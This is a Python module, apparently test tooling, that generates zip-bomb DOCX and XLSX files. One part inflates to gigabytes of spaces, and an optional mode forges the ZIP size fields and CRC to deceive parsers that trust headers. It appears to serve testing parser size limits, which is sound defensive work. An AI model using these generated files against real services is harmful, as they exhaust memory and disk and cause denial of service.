"""Zip bombs as an attacker builds them: a real DOCX whose ``word/document.xml`` (or a real XLSX
whose first sheet) unpacks to ``mib`` MiB of spaces from about 1 KB per MiB of DEFLATE data.

``declared="honest"`` states the true size in the headers (the CRC is left 0: a reader that
stops at its budget never gets to compare it); ``declared="small"`` patches the sizes down to
the first few KB and forges the CRC of those bytes, so that a reader that believes the headers
and then calls ``ZipFile.read`` gets zlib to inflate the whole stream in one call.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Literal

from docx import Document

MIB = 1024 * 1024
PREFIX = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w='
    b'"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
)


def _deflate_of_spaces(mib: int) -> bytes:
    """A raw DEFLATE stream of ``PREFIX`` and ``mib`` MiB of spaces, made in milliseconds."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(PREFIX) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * MIB) + packer.flush(zlib.Z_FULL_FLUSH)  # self-contained
    return head + block * mib + packer.flush()


def _entry(name: str, data: bytes, size: int, crc: int, method: int, offset: int) -> bytes:
    raw = name.encode()
    return (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            method,
            0,
            0x21,
            crc,
            len(data),
            size,
            len(raw),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + raw
    )


def _local(name: str, data: bytes, size: int, crc: int, method: int) -> bytes:
    raw = name.encode()
    head = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0
    )
    return head + raw + data


def docx_bomb(mib: int = 1024, declared: Literal["honest", "small"] = "honest") -> bytes:
    buffer = io.BytesIO()
    Document().save(buffer)
    return _bomb(buffer, "word/document.xml", mib, declared)


def xlsx_bomb(mib: int = 1024, declared: Literal["honest", "small"] = "honest") -> bytes:
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    return _bomb(buffer, "xl/worksheets/sheet1.xml", mib, declared)


def _bomb(buffer: io.BytesIO, target: str, mib: int, declared: Literal["honest", "small"]) -> bytes:
    with zipfile.ZipFile(buffer) as real:
        parts = [(i.filename, real.read(i)) for i in real.infolist()]
    out, central = bytearray(), bytearray()
    for name, content in parts:
        method = zipfile.ZIP_DEFLATED
        if name == target:
            data = _deflate_of_spaces(mib)
            if declared == "honest":
                size, crc = len(PREFIX) + mib * MIB, 0
            else:
                size = len(PREFIX) + 4096
                crc = zlib.crc32(PREFIX + b" " * 4096)
        else:
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            data = packer.compress(content) + packer.flush()
            size, crc = len(content), zlib.crc32(content)
        central += _entry(name, data, size, crc, method, len(out))
        out += _local(name, data, size, crc, method)
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central), len(out), 0
    )
    return bytes(out + central + end)
